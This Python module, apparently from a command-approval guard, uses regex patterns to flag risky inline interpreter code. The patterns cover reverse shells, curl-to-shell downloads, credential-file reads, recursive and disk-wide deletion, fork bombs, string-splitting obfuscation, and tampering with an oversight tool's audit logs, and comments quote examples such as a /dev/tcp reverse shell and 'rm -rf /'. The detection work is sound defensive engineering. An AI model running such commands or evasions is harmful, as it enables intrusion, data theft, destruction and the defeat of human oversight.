"""Inline interpreter code (`python -c`, `perl -e`, `node -e`, `ruby -e`, PowerShell `-Command`): what it
would do, read from the calls it makes. Code cannot be parsed for every language, so these are patterns
over the text; anything they do not recognise is still arbitrary code, which a human approves."""

from __future__ import annotations

import base64
import codecs
import posixpath
import re
import shlex
from fnmatch import fnmatchcase
from functools import lru_cache, partial
from pathlib import Path

from tools.guarded_pattern import GuardedPattern
from tools.risk_buildfiles import closing
from tools.risk_paths import (
    DENY,
    ESCALATE,
    HOME_SECRETS,
    RAW_DISK_DEVICE,
    REAL_BROWSER_PROFILE,
    ActionContext,
    ActionRisk,
    everything_in,
    holds_everything,
    inside,
    is_secret,
    mentions,
    resolve,
)

_SHELL_CALL = GuardedPattern(re.compile(
    r"(?:os\.system|os\.popen|os\.execute|io\.popen|subprocess\.\w+|__import__\(\s*['\"](?:os|subprocess)['\"]\s*\)\.\w+|"
    r"check_output|Popen|system|exec|execSync|spawnSync|doShellScript|(?<![\w.])(?:c|ctx|context|conn)\.(?:run|sudo|local)|"
    r"(?<![\w.'\"])sh(?:ell)?|:os\.cmd|Mix\.shell\(\)\.cmd|System\.shell|`|['\"]-c['\"]\s*,|StartShell|Process::fromShellCommandline|(?:runLocally|(?<![\w$>:.])run|\bself\.run)(?=\s*\())\s*\(?\s*\[?\s*"
    r"[rbf]?(['\"`])(.+?)\1"),
    needs=re.compile(r"system|exec|popen|Popen|check_output|spawnSync|doShellScript|subprocess\.|__import__\(|s(?<![\w.]s)h|:os\.cmd|`|Mix\.shell|System\.shell|'-c['\"]|StartShell|"
                     r"fromShellCommandline|r(?<![\w$>:.]r)un(?:Locally)?\s*\(|self\.run\s*\(|"
                     r"\"-c['\"]|"
                     r"c(?<![\w.]c)(?:tx|ontext|onn)?\.(?:run|sudo|local)"))
_DELETE_CALLS = (r"shutil\.rmtree|os\.removedirs|rmSync|rmdirSync|remove_tree|rm_rf|rm_r|remove_dir_all|RemoveAll|"
                 r"deleteRecursively|DeleteDirectory")
_TREE_DELETE = GuardedPattern(re.compile(
    rf"\b(?:{_DELETE_CALLS}|rmtree|FileUtils\.rm\w*|rimraf|Remove-Item)\b|\bunlink\(.*recursive\s*=\s*TRUE|"
    r"['\"]rm(?:\s+|['\"]\s*,\s*\[?\s*['\"])-[a-zA-Z]*[rR]|"  # `'rm -rf'`, `["rm", "-rf"]`, `("rm", ["-rf"`
    r"Directory\.Delete\([^()]*,\s*true\s*\)|\brm\([^()]*recursive\s*=\s*true|RecursiveIteratorIterator::CHILD_FIRST|"
    r"\bdelete\(\s*(?:project\.)?fileTree\(|(?:File::|->\s*)(?:deleteDirectory|cleanDirectory)\(|"  # Gradle, Laravel
    r"Filesystem\(\s*\)\s*\)\s*->\s*remove\(|\$(?:this->)?(?i:fs|filesystem)\w*\s*->\s*remove\(|"  # Symfony
    r"(?s:Files\.walk\(.{0,200}?(?:\.delete\(\)|Files::delete|Files\.delete(?:IfExists)?\())|"  # Java's tree walk
    r"\bDeno\.remove(?:Sync)?\((?:[^()]|\([^()]*\))*recursive\s*:\s*true|\.delete(?:Sync)?\(\s*recursive\s*:\s*true|"  # Deno, Dart
    r"\bdeleteTree(?:Absolute)?\("))  # Zig
_LITERAL_TREE_DELETE = re.compile(rf"(?:{_DELETE_CALLS}|rmdir)\s*\(\s*[rbf]?(['\"])(.+?)\1")
_NAMED_TREE_DELETE = re.compile(rf"(?:{_DELETE_CALLS}|rmdir)\s*\(\s*([A-Za-z_]\w*)\s*[,)]")  # a name given one literal
# Python's normalizing calls around a literal (`os.path.normpath(os.path.expanduser("~/.cache/../.."))`).
_NORMALIZED_LITERAL = re.compile(r"""((?:os\.path\.(?:normpath|abspath|realpath|expanduser)\(\s*)+)([rbf]?(['"])[^'"\n]+\3)((?:\s*\))*)""")
_CAKE_PATH = re.compile(r"""\b(?:MakeAbsolute\(\s*)?(?:Directory|DirectoryPath)\(\s*("[^"\n]*")\s*\)(?:\s*\))?""")  # Cake
_HOME_REFERENCE = re.compile(
    r"expanduser\(\s*[rbf]?['\"]~/?['\"]\s*\)|Path\(\s*[rbf]?['\"]~/?['\"]\s*\)\.expanduser\(\)|Path\.home\(\)|homedir\(\)|\$ENV\{\s*['\"]?HOME['\"]?\s*\}|"
    r"process\.env\.HOME|environ(?:\.get\(|\[)\s*['\"]HOME['\"]|getenv\(\s*['\"]HOME['\"]|Dir\.home|ENV(?:\[|\.fetch\()\s*['\"]HOME['\"]|"
    r"env::var(?:_os)?\(\s*\"HOME\"|home_dir\(\)|"
    r"\$env:USERPROFILE|\$env:HOME\b|\$HOME\b|~['\"]|getProperty\(\s*['\"]user\.home|UserHomeDir\(\)|System\.user_home!?\(\)|"
    r"GetFolderPath\(\s*(?:['\"]?(?:\[Environment\+SpecialFolder\]::)?UserProfile|40\s*\)|(?:System\.)?(?:Environment\.)?SpecialFolder\.(?:UserProfile|Personal))|path\.expand\(\s*['\"]~|"
    r"(?:os\.sep|['\"]/['\"])\s*,\s*['\"]home['\"]\s*,|['\"]/home/?['\"]\s*(?:\+|\.(?!\w))|\bf['\"]/home/\{|"
    r"homeDirectoryForCurrentUser|NSHomeDirectory\(\)|System\.user_home|\$_SERVER\[\s*['\"]HOME|\$_ENV\[\s*['\"]HOME|posix_getpwuid\(.*\[\s*['\"]dir['\"]|"
    r"GetEnvironmentVariable\(\s*\"(?:HOME|USERPROFILE)\"|sys\.props\(\s*\"user\.home|sys\.env(?:\.get)?\(\s*\"HOME\"|"
    r"[gG]etenv\(\s*['\"](?:HOME|USERPROFILE)['\"]|EnvironmentVariable\(\s*\"(?:HOME|USERPROFILE)\"|"
    r"get_environment\(\s*['\"](?:HOME|USERPROFILE)['\"]|"  # Godot's OS.get_environment
    r"System\.get_env\(\s*\"(?:HOME|USERPROFILE)\"|Path\.expand\(\s*\"~|"  # Elixir's
    r"Deno\.env\.get\(\s*['\"](?:HOME|USERPROFILE)['\"]|Bun\.env\.HOME\b|"  # Deno's and Bun's
    r"Platform\.environment\[\s*['\"](?:HOME|USERPROFILE)['\"]|"  # Dart's
    r"\bEtc\.getpwuid\b[^\n]*?\.dir\b|\bpwd\.getpw(?:uid|nam)\([^\n]*?\.pw_dir\b|"  # Ruby's, Python's password entry
    r"getEnvVarOwned\([^()]*['\"]HOME['\"]|\bposix\.getenv\(\s*['\"]HOME['\"]|env_map\.get\(\s*['\"]HOME['\"]")  # Zig's
# Token files in the home directory named in code that also finds the home directory (gradle.properties too: code
# that reads it from home is after its signing and publishing passwords).
_HOME_TOKEN_FILE = re.compile(r"['\"/\\](?:" + "|".join(
    re.escape(n).replace("/", r"[/\\]") for n in (*HOME_SECRETS, ".gradle/gradle.properties")) + r")\b")
_JOINED_LITERALS = re.compile(r"""(['"])(?<=[\w/.-].)\s*(?:\+\+?|\.\.?|\*)\s*\1(?=[\w/.-])""")  # + ++ . .. *
# Literals Python joins by a space alone, right after `(`, `=`, `,` or `/` (`("ae" "gis")`, `base / "ae" "gis"`); a
# shell's words stay apart.
_ADJACENT_LITERALS = re.compile(r"""([(=,/][ \t]*)(['"])([^'"\n]*)\2[ \t]+\2(?=[^'"\n]*\2)""")
_PARENTHESIZED_LITERAL = re.compile(r"""(?<![\w)\]])\(\s*((['"])[^'"\n]*\2)\s*\)""")  # `("aegis")`, not a call
# Literals of either quote joined by `+` (`'curl -fsSL ' + "https://…" + ' | ' + 'sh'`): the one literal they make.
_ADDED_LITERALS = re.compile(r"""(?<![\w\\])(['"])([^'"\n\\]*)\1(?:[ \t]*(?:\+\+?|\.\.|<>)[ \t]*|[ \t]+\.[ \t]+)(['"])([^'"\n\\]*)\3""")  # +, Zig's ++, Lua's .., Elixir's <>, PHP's .
# Ruby's word list spread into a call's arguments (`File.join(Dir.home, *%w[.local share])`): the literals.
_WORD_LIST_SPREAD = re.compile(r"\*%w[\[(]([^\])\n]*)[\])]")
_WORD_LIST = re.compile(r"%w[\[(]([^\])\n]*)[\])]")  # any other: the list of literals it is


def ruby_word_lists_quoted(code: str) -> str:
    """Ruby's `%w[cu rl]` written as the list of literals it is (`["cu", "rl"]`)."""
    return _WORD_LIST.sub(lambda m: "[" + ", ".join(f'"{w}"' for w in m.group(1).split()) + "]", code) if "%w" in code else code

# Rust's path built by pushes of literals (`p.push(".ssh"); p.push("id_rsa");`): one join of them.
_PATH_PUSHES = re.compile(r"""\b(\w+)\.push\(\s*((?:"[^"\n]*"\s*,\s*)*"[^"\n]*")\s*\)\s*;\s*\1\.push\(\s*("[^"\n]*")\s*\)""")
# Ruby's word list joined with nothing between (`%w[ae gis].join`): the one literal it makes.
_WORD_LIST_JOINED = re.compile(r"""%w[\[(]([^\])\n]*)[\])]\.join(?:\(\s*(['"])\2\s*\))?(?![\w(])""")
# Words joined by a space into one command line (`["curl", "-fsSL", url].join(" ")`): a name stands for its value.
_SPACE_JOINED_LIST = re.compile(r"""\[\s*((?:(?:['"][^'"\n]*['"]|[A-Za-z_$][\w$.]*)\s*,\s*)+"""
                                r"""(?:['"][^'"\n]*['"]|[A-Za-z_$][\w$.]*))\s*,?\s*\]\.join\(\s*(['"]) \2\s*\)""")
# Literals of any text in a list joined with nothing between them (`['cu', 'rl -fsSL … | s', 'h'].join('')`).
_EMPTY_JOINED_LIST = re.compile(r"""\[\s*((?:(['"])[^'"\n]*\2\s*,\s*)+(['"])[^'"\n]*\3)\s*,?\s*\]\.join\(\s*(['"])\4\s*\)|"""
                                r"""(['"])\5\.join\(\s*[\[(]\s*((?:(['"])[^'"\n]*\7\s*,\s*)+(['"])[^'"\n]*\8)\s*,?\s*[\])]\s*\)""")
# Literals in a list joined with `/` or `.` (`["", "etc", "shadow"].join("/")`, `".".join(["", "docker"])`): the text.
_SEPARATOR_JOINED_LIST = GuardedPattern(re.compile(
    r"""\[\s*((?:(['"])[^'"\n]*\2\s*,\s*)+(['"])[^'"\n]*\3)\s*,?\s*\]\.join\(\s*(['"])([/._-])\4\s*\)|"""
    r"""(['"])([/._-])\6\.join\(\s*[\[(]\s*((?:(['"])[^'"\n]*\9\s*,\s*)+(['"])[^'"\n]*\10)\s*,?\s*[\])]\s*\)"""))
# A shell wired to a network socket through bash's /dev/tcp (`bash -i >& /dev/tcp/HOST/PORT 0>&1`), held in a literal.
_SHELL_OVER_TCP = re.compile(r"(?:ba)?sh\s+-i\b[^'\"\n]*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^'\"\n]*0>&1|"
                             r"(?:ba)?sh\s+-i\s*>&\s*\S+\s+0>&1")  # an interactive shell's input and output wired to one place
# A list of literals joined with nothing between (`Enum.join(["cu", "rl -fsS"])`, Julia's `join([...])`).
_JOINED_TEXT_LIST = re.compile(r"""(?:\bEnum\.join|(?<![\w.])join)\(\s*\[\s*((?:"[^"\n]*"\s*,\s*)+"[^"\n]*")\s*\]\s*\)|"""
                               r"""\[\s*((?:"[^"\n]*"\s*,\s*)+"[^"\n]*")\s*\]\s*\|>\s*Enum\.join\(\s*\)""")  # Elixir's pipe
# Kotlin's and Scala's lists of literals joined (`listOf(".local", "share").joinToString("/")`, `Seq(…).mkString("/")`).
_JOINED_SEQUENCE = re.compile(r"""\b(?:listOf|arrayOf|Seq|List)\(\s*((?:"[^"\n]*"\s*,\s*)+"[^"\n]*")\s*\)\s*\."""
                              r"""(?:joinToString|mkString)\(\s*(?:separator\s*=\s*)?"([^"\n]*)"\s*\)""")
# The path separator by name (Go's `string(os.PathSeparator)`, Java's `File.separator`, Dart's
# `Platform.pathSeparator`): a `/` literal.
_PATH_SEPARATOR = re.compile(r"\bstring\(\s*(?:os|filepath)\.(?:PathSeparator|Separator)\s*\)|\bFile\.separator\b|"
                             r"\bPath\.DirectorySeparatorChar\b|\bPlatform\.pathSeparator\b")
_PHP_SEPARATOR = re.compile(r"\bDIRECTORY_SEPARATOR\b")  # PHP joins with `.`, most often between single-quoted parts
# A format of literal text filled with literals and names (`sprintf('%s/.%s', $dir, 'pypirc')`, Go's `fmt.Sprintf`).
_FORMATTED = re.compile(r"""\b(?:s?printf|Sprintf|format)\(\s*(['"])([^'"\n]*%[^'"\n]*)\1\s*"""
                        r"""((?:,\s*(?:(['"])[^'"\n]*\4|[$A-Za-z_][\w.]*|escapeshellarg\(\s*\$\w+\s*\)|"""
                        r"""(?:\$_(?:SERVER|ENV)\[\s*['"]HOME['"]\s*\]\s*\?\?\s*)?getenv\(\s*['"]HOME['"]\s*\))\s*)+)\)""")
# PHP's home folder given to a format (`$_SERVER['HOME'] ?? getenv('HOME')`): `~`.
_PHP_HOME_ARGUMENT = re.compile(r"""(?:\$_(?:SERVER|ENV)\[\s*['"]HOME['"]\s*\]\s*\?\?\s*)?getenv\(\s*['"]HOME['"]\s*\)""")
# A name given a value (`$root = $_SERVER['HOME'] ?? getenv('HOME');`): one given the home folder is written `~`.
_HOME_NAME = re.compile(r"^[ \t]*(?:(?:var|let|const|string)\s+)?(\$?[A-Za-z_]\w*)\s*:?=\s*([^;\n]+)", re.M)
# C#'s and Java's concatenation calls of literals only (`string.Concat("ae", "gis")`): the text they make.
_CONCAT_CALL = re.compile(r"""\b[Ss]tring\.(?:Concat\(|join\(\s*"([^"\n]*)"\s*,)\s*((?:"[^"\n]*"\s*,\s*)+"[^"\n]*")\s*\)""")
_RUBY_ENVIRONMENT_DEFAULT = re.compile(r"""\bENV\.fetch\(\s*(['"])\w+\1\s*,\s*(?![{\s])""")
_ENVIRONMENT_DEFAULT = re.compile(r"""\bos\.(environ\.get|getenv)\(\s*((['"])\w+\3)\s*,\s*""")
# A list of literals joined with nothing between them (`implode('', ['ae', 'gis'])`, `''.join(['ae', 'gis'])`,
# `["ae", "gis"].concat()`, `paste0(c("ae", "gis"), collapse = "")`, Julia's `join(["ae", "gis"])`): the text it makes.
_JOINED_LIST = GuardedPattern(re.compile(
    r"""(?:implode\(\s*(['"])\1\s*,\s*|(['"])\2\.join\(\s*|\bjoin\(\s*)?[\[{(]\s*c?\(?\s*"""
    r"""((?:['"][\w./~-]*['"]\s*,\s*)+['"][\w./~-]*['"])\s*[\]})]\)?"""
    r"""(?:\.concat\(\)|\.join\(\s*(['"])\4\s*\)|\s*,\s*collapse\s*=\s*(['"])\5\s*\))?"""),
    needs=re.compile(r"""['"][\w./~-]*['"]\s*,\s*['"]"""))  # two literals in a row
# A literal the code reverses (PHP `strrev('sigea')`, Python `'sigea'[::-1]`, Ruby `'sigea'.reverse`): the text it makes.
_REVERSED_LITERAL = GuardedPattern(re.compile(r"""\bstrrev\(\s*(['"])([^'"]*)\1\s*\)|(['"])([^'"]*)\3(?:\[::-1\]|\.reverse\b)"""))
# A variable the code reverses in place (C++ `std::reverse(c.begin(), c.end())`, Ruby `c.reverse!`, Python
# `c = c[::-1]`): its name.
_REVERSED_IN_PLACE = re.compile(r"""\bstd::reverse\(\s*(\w+)\.begin\(\)|\b(\w+)\.reverse!|\b(\w+)\s*=\s*\3\[::-1\]""")
# A list of literals reversed and joined (Ruby's `%w[s i g e a].reverse.join`, once its words are quoted): the text.
_REVERSED_LIST_JOINED = re.compile(r"""\[((?:\s*['"][^'"\n]*['"]\s*,?)+)\]\.reverse\.join(?:\(\s*(['"])\2\s*\))?""")
# R's paste0() of literals only (`paste0("ae", "gis")`): the text it makes.
_PASTED_LITERALS = GuardedPattern(re.compile(r"""\bpaste0\(\s*((?:(['"])[^'"]*\2\s*,\s*)+(['"])[^'"]*\3)\s*\)"""))
_QUOTED_PATH = re.compile(r"""['"]((?:~|/)[^'"\s]*)['"]""")
_AEGIS_DATA = re.compile(r"\.local[/\\]share[/\\]aegis")
# The user's data folder found (`XDG_DATA_HOME`, `~/.local/share` in pieces) and AEGIS's name as one of its folders.
_DATA_HOME = re.compile(r"""XDG_DATA_HOME|\.local[/\\]share|['"]\.local['"](?:\s*[,/]\s*|[\s)]*\)\s*)['"]share['"]|%w[\[(]\.local\s+share[\])]""")
# A glob that takes AEGIS's folder among others (`"ae*/audit*.log"`): one of its parts matches the name.
_GLOB_PART = re.compile(r"""(?<=['"/])([\w.-]*[*?][\w.*?-]*)(?=[/'"])""")
_AEGIS_NAME = re.compile(r"""['"/]aegis['"/]""", re.I)
# A glob over the data folders of every program (`~/.local/share/*/audit*.log`) that names an audit log or a policy.
_AEGIS_BY_GLOB = re.compile(r"\.local[/\\]share[/\\]([^/\\'\"\s]*[*?\[][^/\\'\"\s]*)[/\\][^'\"\s]*(?:audit|polic)", re.I)
_WRITES = re.compile(
    r"open\((?:[^()]|\((?:[^()]|\([^()]*\))*\))*['\"][rwab]*[wax+]|\b(?:remove|unlink|unlinkSync|rmtree|rmSync|rm_rf|writeFile\w*|write_text|write_bytes|"
    r"truncate|rename|replace|chmod|move|copy\w*|remove_tree|unlink_p|Remove-Item|Set-Content|Add-Content|Clear-Content|Out-File|"
    r"OpenWrite|WriteAllBytes|WriteAllText|Move-Item|Rename-Item|Copy-Item|export\w*|save\w*|dump\w*|serialize|"
    r"PrintWriter|FileWriter|FileOutputStream|newBufferedWriter|writeText|writeBytes|appendText|deleteIfExists|delete|"
    r"data_home|cache_dir|to_(?:csv|json|parquet|excel|pickle)|write[._](?:csv|json|table|rds|lines)|writeLines|"
    r"file\.remove|file\.rename|rm|rm_f|file_put_contents|put|write|fwrite|fputs|ftruncate|writeTextFile(?:Sync)?|"
    r"writeAs(?:String|Bytes)(?:Sync)?|deleteSync)\b|\.text\s*=(?!=)", re.I)  # Groovy's
_FETCH = GuardedPattern(re.compile(
    r"\b(?:urlopen|urlretrieve|requests\.(?:get|post)|urllib|http\.client|httpx|(?<![\w$]\.)fetch\(|http\.(?:post|put|patch)\(|(?:post|put)Url\(|(?:window|globalThis|self)\.fetch\(|https?\.get\(|LWP|open-uri|"
    r"Net::HTTP|URI\.open|getstore|URLSession|Http::|:httpc\.|HTTPoison|get\(['\"]https?:|copy\(\s*['\"]https?:|download\.file|Downloads\.download|\burl\(|(?:read|scan)_\w+\(\s*['\"]https?:|file_get_contents\(\s*['\"]https?:|DownloadString|DownloadFile|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|curl|wget|XMLHTTP|WinHttpRequest)"))
_RUN_TEXT = GuardedPattern(re.compile(r"(?<![\w.-])(?:exec|eval|compile|Function)\s*[\(\s]|\b(?:Invoke-Expression|iex|instance_eval)\s*[\(\s]|"
                                      r"(?i:\[scriptblock\]::Create\(|\.InvokeCommand\.InvokeScript\()|\b(?:include|require)(?:_once)?\s+['\"$]"),  # PHP's include 'x.php'
                           needs=re.compile(r"exec|eval|compile|Function|Invoke-Expression|iex|instance_eval|include|require|\]::|(?i:InvokeScript)"))
# What makes a project file's mention of a secret more than data: reading a file named by the secret (or by a
# variable set to it), sending anything off the machine, or running commands.
_READS = re.compile(
    r"\b(?:open|fopen|netrc|read|ReadFile|ReadAll\w*|ReadLines|readLines|readline|read_file|read_text|read_bytes|"
    r"readFileSync|readFile|readTextFile(?:Sync)?|readAs(?:String|Bytes|Lines)(?:Sync)?|file_get_contents|file|scan|readRDS|load|read\.\w+|read_\w+|fread|copy\w*|move|"
    r"make_archive|copytree|(?:tar|zip|archive)\w*\.(?:add|write)|cp|cp_r|readFileAlloc|readToEndAlloc|include_(?:str|bytes)!)\s*\(|"
    r"\b(?:Get-Content|gc|cat|type|Copy-Item|cp|Compress-Archive|open)\s+", re.I)
_SENDS = GuardedPattern(re.compile(
    r"urlopen|urlretrieve|\brequests\.\w+\(|httpx|http\.client|\bfetch\(|https?\.(?:get|request)\(|LWP|Net::HTTP|"
    r"\bhttp\.(?:post|put|patch)\(|\b(?:post|put)Url\(|"
    r"HTTP::Tiny|URI\.open|download\.file|Downloads\.download|\burl\(|curl_\w+\(|WebClient|DownloadString|"
    r"(?i:Invoke-WebRequest|Invoke-RestMethod|\biwr\b|\birm\b|Send-MailMessage)|smtplib|Net::SMTP|httr::|\bPOST\(|\bPUT\(|"
    r"\bupload\w*\(|\bupload!\s|\bDial\w*\(|\bconnect\(|mail\(|fsockopen|URLSession|Http::|:httpc\.|HTTPoison|\bReq\.(?:post|put)!?\(|"
    r"\bureq::(?:post|put|request)\(|\.send_(?:string|json|bytes|form)\(|"
    r"WinHttp\.WinHttpRequest|XMLHTTP|\.Post(?:Form)?\(|http\.NewRequest|['\"]method['\"]\s*=>\s*['\"](?:POST|PUT)['\"]|Mail::|->attach\(|Attachment::from|->(?:post|put)\(|HTTPRequest|METHOD_POST"))
_PIPE_TO_SHELL = re.compile(r"\|\s*(?:ba)?sh\b|pipeline\(.*`(?:ba)?sh`")  # Julia's pipeline(`curl …`, `sh`)
# Ways code runs a command or code it holds as text. Code with none of them (Python that only imports shlex and
# prints) cannot run the command lines it holds: they are data, as in a linter's or a lesson's list of examples.
_RUNS_COMMANDS = tuple(GuardedPattern(re.compile(alternative, re.M)) for alternative in (  # each with its own guard
    r"\b(?:system2?|exec\w*|eval|popen|spawn\w*|shell_exec|passthru|proc_open|check_output|getoutput|startfile|"
    r"ProcessBuilder|Runtime|ProcessStartInfo|getattr|__import__|import_module|instance_eval|public_send)\b",
    r"\b(?:execute|Command|Start|send|Function)\s*[\(\s:.]", r"(?<![\w.])compile\s*\(",
    r"(?i:\b(?:Start-Process|Invoke-Expression|iex|Invoke-Command)\b|\[scriptblock\])",
    r"subprocess|child_process|\bpty\b|ctypes|Open3|%x|\bqx\b|\bsh\.|pexpect|plumbum", r"`", r"&\s*[$({'\"]",
    r"\bimport\s+(?:[\w.]+\s*,\s*)*os\b|\bfrom\s+os\s+import\b",
    r"^\s*(?:silent!?\s+)?!\w", r"\.exe\b|\b(?:ba|z)?sh\s+-c\b", r"\bSystem\.cmd\b|:os\.cmd\b|\bProcess\.(?:run|start)\b",
    r"\bsys\.process\b|[)\"]\s*\.!!?(?![=\w])",  # Scala's processes
    r"(?<![\w.])local\s*\(\s*['\"]",  # Tilt's and Fabric's shell commands
    r"\b(?:StartProcess|StartShell)\s*\(",  # Cake's and NUKE's
    r"\bnew\s+Process\s*\(|\bProcess::fromShellCommandline\b|(?<![\w$>:.])run(?:Locally)?\s*\(\s*['\"]"))  # Symfony's, Deployer's


_FAKE_HOME = re.compile(r"""(?:setenv|Setenv|set_var|putenv)\(\s*['"]HOME\b|(?:ENV|os\.environ)\[\s*['"]HOME['"]\s*\]\s*=(?!=)""")
_TEMPORARY = re.compile(r"tmp_path|tmpdir|mkdtemp|TemporaryDirectory|mktmpdir|TempDir|tempdir|sys_get_temp_dir")


@lru_cache(maxsize=256)  # a script's text is asked about by the text rules and by held_commands
def _runs_commands(code: str) -> bool:
    return any(alternative.search(code) for alternative in _RUNS_COMMANDS)


# Code read from the internet and run by the language's own loader (R `source("https://…")`, Julia
# `include(download(…))`, `devtools::source_url`).
_REMOTE_SOURCE = GuardedPattern(re.compile(r"""\b(?:source|sys\.source|source_url|source_gist|include|eval\(parse)\(\s*(?:text\s*=\s*)?"""
                                           r"""(?:(?:download|readLines|url)\(\s*)?['"]https?://|"""
                                           r"""\binclude(?:_string)?\s*\((?:[^()]|\([^()]*\))*\bdownload\("""))
# PowerShell started with an encoded command from inside code (`Start-Process pwsh -ArgumentList '-enc', $b`).
_ENCODED_POWERSHELL = GuardedPattern(re.compile(r"""(?is)\b(?:pwsh|powershell)(?:\.exe)?\b.{0,160}?[\s'",]-(?:e|ec|enc|encodedcommand)[\s'",]"""))
_DECODE = re.compile(
    r"b64decode|base64|fromhex|unhexlify|codecs\.decode|decode\(['\"](?:hex|rot)|Buffer\.from\([^)]*['\"](?:base64|hex)|"
    r"MIME::Base64|decode_base64|unpack\(|FromBase64String|\[::-1\]|reverse\(\)|getDecoder\(\)\.decode|decodeBase64\(|"
    r"base64_to_(?:utf8|raw)|\bBase\.(?:url_)?decode(?:64|32|16)|\bBase64\.(?:strict_|urlsafe_)?decode64\b")
_WHOLE_ENVIRONMENT = GuardedPattern(re.compile(
    r"dict\(\s*os\.environ\s*\)|dumps\(\s*os\.environ|JSON\.stringify\(\s*process\.env\s*\)|%ENV\b|"
    r"os\.environ\.items\(\)|\bENV\.to_h\b|Get-ChildItem\s+env:|Deno\.env\.toObject\(\)|JSON\.stringify\(\s*Bun\.env\s*\)|"
    r"jsonEncode\(\s*Platform\.environment\s*\)|Platform\.environment\.toString\(\)"))
# An address written in the code (not this machine's): where code that also reads a credential from the environment
# sends it. A token and its endpoint both taken from configuration are ordinary API use.
_WRITTEN_ADDRESS = re.compile(r"""['"`](?:(?:https?|wss?|ftp)://(?!localhost\b|127\.0\.0\.1\b|\[::1\])|"""
                              r"""(?!127\.)\d{1,3}(?:\.\d{1,3}){3}\b|[\w-]+(?:\.[\w-]+)+:\d{2,5}['"`])""")
# A credential read from the environment by name (`getenv('GITHUB_TOKEN')`, `process.env.NPM_TOKEN`, `ENV['X_SECRET']`).
_CREDENTIAL_FROM_ENVIRONMENT = GuardedPattern(re.compile(
    r"(?:getenv|environ(?:\.get)?|ENV|process\.env|env::var)\W{0,3}\w*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_KEY|ACCESS_KEY)", re.I))
# Quoted names joined into a path (`File.join(Dir.home, ".kube", "config")`, `os.path.join(h, ".ssh", "id_rsa")`).
_JOINED_NAMES = re.compile(r"""(['"])([\w.~*?-][\w.~/*?-]*)\1(?:(?:\s*[,/]\s*|\s+|\s*\)\s*\.join\(\s*)(['"])[\w.~*?-][\w.~/*?-]*\3)+""")
# What makes a list of quoted names a path (a list of patterns is not one).
_PATH_JOIN = re.compile(r"join|file\.path|Path\(|resolve\(|home|expanduser|USERPROFILE|HOME|\bpath\b|Combine\(|\bFile\(", re.I)
# The JVM's nested `File(File(dir, ".docker"), "config.json")`: one `File(dir, ".docker", "config.json")`.
_NESTED_FILE = re.compile(r"""\bFile\(\s*File\(\s*([^,()]+?)\s*,\s*("[^"\n]+")\s*\)\s*,\s*("[^"\n]+")\s*\)""")
_JVM_FETCH = re.compile(r"new\s+URL\(|openConnection|HttpClient|HttpURLConnection|TcpStream::connect|reqwest::|"
                        r"RestTemplate|RestClient|OkHttpClient|\.postFor(?:Object|Entity|Location)\(")
# nox's `session.run('rm', '-rf', path)`: literal words of one command line.
_NOX_RUN = re.compile(r"""\bsession\.run(?:_always|_install)?\(\s*((?:[rbf]?(['"])(?:\\.|(?!\2)[^\\\n])*\2\s*,\s*)*"""
                      r"""[rbf]?(['"])(?:\\.|(?!\3)[^\\\n])*\3)""")
_NOX_WORD = re.compile(r"""[rbf]?(['"])((?:\\.|(?!\1)[^\\\n])*)\1""")
# Perl's own quoting in a command call: `system(q(rm -rf /))`, `qx(...)`.
_PERL_CALL = GuardedPattern(re.compile(r"\b(?:system|exec)\s*\(?\s*qq?\((.+?)\)\s*\)?|\bqx\((.+?)\)"))
_RAW_DISK_IN_CODE = GuardedPattern(re.compile(RAW_DISK_DEVICE))
_DISK_WIPE = GuardedPattern(re.compile(r"\b(?:Clear-Disk|Format-Volume|Initialize-Disk|Remove-Partition|Format-Disk)\b", re.I))
# Remove-Item of a whole Windows drive: `Remove-Item C:\ -Recurse`, `Get-ChildItem C:\ | Remove-Item -Recurse`.
_DRIVE_DELETE = GuardedPattern(re.compile(
    r"(?:Remove-Item|\bri|\brd|\brmdir|\bdel)\s+(?:-\w+\s+)*['\"]?[A-Za-z]:\\?\*?['\"]?(?:\s|$)|"
    r"(?:Get-ChildItem|\bgci|\bdir|\bls)\s+(?:-\w+\s+)*['\"]?[A-Za-z]:\\?['\"]?\s.*\|\s*(?:Remove-Item|\bri|\brm|\bdel)\b", re.I),
    needs=re.compile(r"[\s'\"][a-z]:(?:[\\*'\"\s]|$)"))  # the drive, after a blank or a quote
_FORK_LOOP = GuardedPattern(re.compile(
    r"fork\s*\(\s*\).*(?:while|\bfor\b|iter\(|loop)|(?:while|\bfor\b|iter\(|loop).*fork\s*\(\s*\)|"
    r"while\s*\(\s*\$true\s*\)\s*\{[^}]*Start-Process|"
    r"\b(?:loop\s*(?:\{|do\b)|while\s+true\b)\s*(?:\|\w*\|)?[^\n]*?(?:\n[ \t]*)?(?<![\w])(?:Process\.)?fork\s*(?:\{|do\b)|"
    r"\bwhile\b[^\n]*\n[ \t]*(?:Process\.)?fork[ \t]*$|"
    # Ruby that forks a child which calls again what forked it: a method, or a lambda (`w = ->(n) { fork { w.(n) } }`)
    r"\bdef\s+(?:self\.)?(\w+)\b(?:(?!\n[ \t]*def\b).){0,300}?\bfork\s*(?:\{|do\b)[^}\n]*?(?<![\w.])\1\b|"
    r"\b(\w+)\s*=\s*(?:->|lambda|proc).{0,200}?\bfork\s*(?:\{|do\b)[^}\n]*?(?<![\w.])\2\s*(?:\.call\b|\.?[\(\[])",
    re.S | re.I | re.M))
# PowerShell deleting a literal path: `Remove-Item -Recurse -Path C:\Users\x\*` (flags before or after the path).
_PS_DELETE = GuardedPattern(re.compile(r"(?:Remove-Item|\bri|\brd|\brmdir|\bdel)((?:\s+-\w+(?::\S+)?)*)\s+(?:-(?:Literal)?Path\s+)?"
                                       r"['\"]?([^-'\"\s;|][^'\"\s;|]*)['\"]?([^;|]*)", re.I),
                            needs=re.compile(r"r(?<!\wr)(?:i|d|mdir)\s|d(?<!\wd)el\s|remove-item\s"))  # the verb before a blank
_SOCKET = re.compile(r"socket|\bTcpClient\(|IO::Socket|TCPSocket|net['\"]?\)?\.connect|net\.Socket|createConnection|fsockopen|Sockets\.T[Cc][Pp]Client|"
                     r"net\.Dial\w*\(|TcpStream::connect|UdpSocket::bind|:gen_tcp\.connect|Socket\.connect\(|\busing\s+Sockets\b|\bSockets\.connect\(|"
                     r"\b(?:Deno|Bun)\.connect(?:Tls)?\(")
# Node's net module loaded under any name (`n = require('net'); n.connect(…)`).
_NET_MODULE = re.compile(r"""require\(\s*['"](?:node:)?net['"]\s*\)|from\s+['"](?:node:)?net['"]""")
